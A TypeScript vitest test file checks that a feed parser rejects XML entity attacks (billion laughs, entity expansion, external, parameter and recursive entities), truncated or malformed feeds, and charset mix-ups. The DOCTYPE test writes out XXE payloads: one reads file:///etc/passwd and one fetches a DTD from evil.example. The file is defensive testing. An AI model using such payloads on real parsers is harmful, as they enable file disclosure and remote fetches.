import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { decodeBody } from '../../src/ingest/feeds/charset.js';
import { FeedError } from '../../src/ingest/feeds/feed-error.js';
import { parseFeedBody, parseFeedText } from '../../src/ingest/feeds/parse-feed.js';
import { billionLaughs, fixture, rss } from './fixtures.js';

const BASE = 'https://example.com/feed';

function reason(fn: () => unknown): string {
  try {
    fn();
  } catch (error: unknown) {
    if (error instanceof FeedError) return error.message;
    throw error;
  }
  throw new Error('expected a FeedError, got a parsed feed');
}

describe('entities and DOCTYPEs', () => {
  it('when a feed is a billion-laughs bomb, then it is refused at once, without expanding anything', () => {
    // Nothing expanded: a few megabytes of heap at most (an expansion needs gigabytes). How long it
    // takes is the machine's business, not this test's.
    const before = process.memoryUsage().heapUsed;
    expect(reason(() => parseFeedText(billionLaughs(), BASE))).toMatch(/billion laughs/);
    expect(process.memoryUsage().heapUsed - before).toBeLessThan(50_000_000);
  });

  it('when many references to a mid-sized entity would add up to megabytes, then the feed is refused', () => {
    const doctype = `<!DOCTYPE rss [<!ENTITY big "${'x'.repeat(9_000)}">]>`;
    const xml = rss([{ title: '&big;'.repeat(500), link: 'https://e.example/1' }], { doctype });
    expect(reason(() => parseFeedText(xml, BASE))).toMatch(/expand to more than 1000000 characters/);
  });

  it('when a DOCTYPE declares external, parameter or recursive entities, then the feed is refused and nothing is fetched', () => {
    const withDoctype = (decl: string) => rss([{ title: 'x', link: 'https://e.example/1' }], { doctype: `<!DOCTYPE rss [${decl}]>` });
    expect(reason(() => parseFeedText(withDoctype('<!ENTITY xxe SYSTEM "file:///etc/passwd">'), BASE))).toMatch(/external entity &xxe;/);
    expect(reason(() => parseFeedText(withDoctype('<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;'), BASE))).toMatch(/parameter entity %p;/);
    expect(reason(() => parseFeedText(withDoctype('<!ENTITY a "&b;"><!ENTITY b "x &a;">'), BASE))).toMatch(/recursive entity: &a; → &b; → &a;/);
  });

  it('when an entity reference sits inside CDATA, then it stays literal text', () => {
    const xml = rss([{ title: 'By &who;', link: 'https://e.example/1', description: '<![CDATA[Use &who; in HTML]]>' }], {
      doctype: '<!DOCTYPE rss [<!ENTITY who "the <b>board</b>">]>',
    });
    const [first] = parseFeedText(xml, BASE).items;
    expect(first?.title).toBe('By the <b>board</b>');
    expect(first?.summaryHtml).toBe('Use &who; in HTML');
  });
});

describe('truncated and malformed documents', () => {
  it.each(['rss20.xml', 'rss10.rdf', 'atom10.xml', 'atom03.xml'])(
    'when %s is cut off after any tag, then it is refused as truncated rather than read as a shorter feed',
    (name) => {
      const xml = fixture(name).toString('utf8');
      const rootClose = xml.lastIndexOf('</');
      let cuts = 0;
      for (let at = xml.indexOf('>') + 1; at < rootClose; at = xml.indexOf('>', at) + 1) {
        expect(() => parseFeedText(xml.slice(0, at), BASE), `cut at ${at}`).toThrow(FeedError);
        cuts++;
      }
      expect(cuts).toBeGreaterThan(10);
      expect(parseFeedText(xml, BASE).items.length).toBeGreaterThan(0);
    },
  );

  it('when the XML is broken in the middle, then the reason says malformed XML', () => {
    const xml = rss([{ title: 'One', link: 'https://e.example/1' }]).replace('</title>', '</titel>');
    expect(reason(() => parseFeedText(xml, BASE))).toMatch(/^malformed XML/);
  });

  it('when the XML is well-formed but not a feed, then the reason names its root element', () => {
    expect(reason(() => parseFeedText('<?xml version="1.0"?><urlset><url><loc>x</loc></url></urlset>', BASE))).toBe(
      'not a feed: XML with root <urlset>, not RSS, RDF or Atom',
    );
    expect(reason(() => parseFeedText('   ', BASE))).toBe('not a feed: the response is empty');
  });
});

describe('charset detection', () => {
  const text = 'Привет, мир — «новости»';
  const xml = (encoding?: string) => rss([{ title: text, link: 'https://e.example/1' }], encoding ? { encoding } : {});

  it('when a byte-order mark is present, then it wins over everything else', () => {
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(xml('UTF-16'), 'utf-16le')]);
    expect(parseFeedBody(utf16, 'text/xml; charset=windows-1251', BASE).items[0]?.title).toBe(text);
    const utf8 = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(xml())]);
    expect(parseFeedBody(utf8, null, BASE).items[0]?.title).toBe(text);
  });

  it('when the header names an unknown charset, then the XML declaration is used', () => {
    expect(decodeBody(iconv.encode(xml('windows-1251'), 'win1251'), 'text/xml; charset=x-bogus').charset).toBe('windows-1251');
  });

  it('when nothing names a charset, then UTF-8 is assumed', () => {
    expect(decodeBody(Buffer.from(xml()), 'application/rss+xml')).toEqual({ text: xml(), charset: 'utf-8', warning: null });
  });
});
